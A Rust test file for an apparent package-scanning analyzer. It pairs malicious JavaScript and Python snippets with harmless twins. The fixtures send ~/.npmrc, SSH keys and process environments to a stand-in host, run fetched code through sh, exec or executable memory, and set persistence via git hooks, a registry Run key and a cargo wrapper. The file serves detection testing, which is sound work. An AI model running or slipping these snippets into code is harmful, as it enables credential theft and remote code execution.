//! Pairs of what is found and of its twin, one edge away, of which nothing is told.

use super::testing::{found, script, wheel};
use customs_model::{Flow, SinkKind, SourceKind, Zone};

/// Whether something is told of code: foreign text is run, a secret or a fact leaves, or settings
/// are written.
fn is_told(flows: &[Flow]) -> bool {
    let mut flows = flows.iter().filter(|flow| flow.zone > Zone::Called);
    flows.any(|flow| match flow.sink {
        SinkKind::Network => flow.source != SourceKind::Constant,
        SinkKind::Process | SinkKind::DynamicCode | SinkKind::ForeignMemory => {
            flow.source == SourceKind::Remote
        }
        SinkKind::Configuration | SinkKind::ExecutedFile => true,
        _ => false,
    })
}

fn javascript(code: &str) -> bool {
    is_told(&found(script(code)).flows)
}

fn python(code: &str) -> bool {
    is_told(&found(wheel(code)).flows)
}

#[test]
fn one_of_two_programs_that_is_started_is_known_by_both() {
    let starts = |program: &str| {
        javascript(&format!(
            "const c = require('child_process');\nconst w = process.platform === 'win32';\n\
             fetch('https://a.invalid/b').then((r) => r.text()).then((t) => \
             c.spawn(w ? '{program}.exe' : '{program}', ['-c', t]));\n"
        ))
    };
    assert!(starts("sh"));
    assert!(!starts("echo"));
}

#[test]
fn the_own_name_in_an_address_hides_no_host() {
    let sends = |body: &str| {
        javascript(&format!(
            "fetch('https://a.invalid/' + process.env.npm_package_name, {{ method: 'POST', body: {body} }});\n"
        ))
    };
    assert!(sends(
        "require('fs').readFileSync(process.env.HOME + '/.npmrc', 'utf8')"
    ));
    assert!(!sends("'x'"));
}

#[test]
fn what_a_resolver_of_its_own_answers_comes_over_the_network() {
    let runs = |then: &str| {
        javascript(&format!(
            "const {{ Resolver }} = require('dns');\nconst r = new Resolver();\n\
             r.resolveTxt('a.invalid', (e, t) => {then}(t[0].join('')));\n"
        ))
    };
    assert!(runs("eval"));
    assert!(!runs("console.log"));
}

#[test]
fn clients_that_put_files_onto_other_machines_send_them() {
    let puts = |file: &str| {
        javascript(&format!(
            "const C = require('ssh2-sftp-client');\nconst s = new C();\n\
             s.connect({{ host: 'a.invalid' }}).then(() => s.put({file}, '/x'));\n"
        ))
    };
    assert!(puts("require('os').homedir() + '/.ssh/id_rsa'"));
    assert!(!puts("'./x.js'"));
}

#[test]
fn settings_of_every_build_are_a_configuration() {
    let writes = |path: &str| {
        javascript(&format!(
            "require('fs').writeFileSync({path}, '[build]\\nrustc-wrapper = \"/tmp/x\"');\n"
        ))
    };
    assert!(writes("require('os').homedir() + '/.cargo/config'"));
    assert!(!writes("__dirname + '/x/config'"));
}

#[test]
fn settings_that_are_only_asked_for_are_not_written() {
    let runs = |line: &str| javascript(&format!("require('child_process').execSync({line:?});\n"));
    assert!(runs("git config --global core.hooksPath /tmp/h"));
    assert!(!runs("git config --global --get core.hooksPath"));
    assert!(!runs("git config --global --unset core.hooksPath"));
    let run = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run";
    assert!(runs(&format!("reg add {run} /v a /d x.exe /f")));
    assert!(!runs(&format!("reg query {run} /v a")));
    assert!(!runs(&format!("reg delete {run} /v a /f")));
}

const FETCHED: &str = "urllib.request.urlopen('https://a.invalid/b').read()";

#[test]
fn a_path_that_is_opened_is_read() {
    let sends = |path: &str| {
        python(&format!(
            "import pathlib, requests\nwith {path}.open() as f:\n    \
             requests.post('https://a.invalid', data=f.read())\n"
        ))
    };
    assert!(sends("pathlib.Path.home().joinpath('.ssh', 'id_rsa')"));
    assert!(!sends("pathlib.Path('x.txt')"));
}

#[test]
fn a_queue_gives_what_is_put_into_it() {
    let runs = |from: &str| {
        python(&format!(
            "import queue, urllib.request\nq = queue.Queue()\np = queue.Queue()\n\
             q.put({FETCHED})\np.put('x = 1')\nexec({from}.get())\n"
        ))
    };
    assert!(runs("q"));
    assert!(!runs("p"));
}

#[test]
fn what_is_moved_into_memory_that_may_run_is_code() {
    let moves = |memory: &str| {
        python(&format!(
            "import ctypes, urllib.request\nb = {FETCHED}\nm = {memory}\nctypes.memmove(m, b, len(b))\n"
        ))
    };
    assert!(moves(
        "ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)"
    ));
    assert!(!moves("ctypes.create_string_buffer(len(b))"));
}

#[test]
fn the_environment_of_every_process_is_a_secret() {
    let sends = |file: &str| {
        python(&format!(
            "import os, requests\nfor n in os.listdir('/proc'):\n    \
             requests.post('https://a.invalid', data=open('/proc/' + n + '/{file}').read())\n"
        ))
    };
    assert!(sends("environ"));
    assert!(!sends("comm"));
}

#[test]
fn what_stands_in_a_table_is_not_made_of_the_key() {
    let runs = |value: &str, key: &str| {
        python(&format!(
            "import urllib.request\nt = {{'a': {value}}}\nexec(t.get({key}))\n"
        ))
    };
    assert!(runs(FETCHED, "'a'"));
    assert!(!runs("'x = 1'", FETCHED));
}

#[test]
fn lines_of_a_process_that_downloads_come_over_the_network() {
    let runs = |words: &str| {
        python(&format!(
            "import subprocess\nfor line in subprocess.Popen([{words}], stdout=subprocess.PIPE).stdout:\n    \
             exec(line)\n"
        ))
    };
    assert!(runs("'curl', 'https://a.invalid/b'"));
    assert!(!runs("'ls', '-l'"));
}
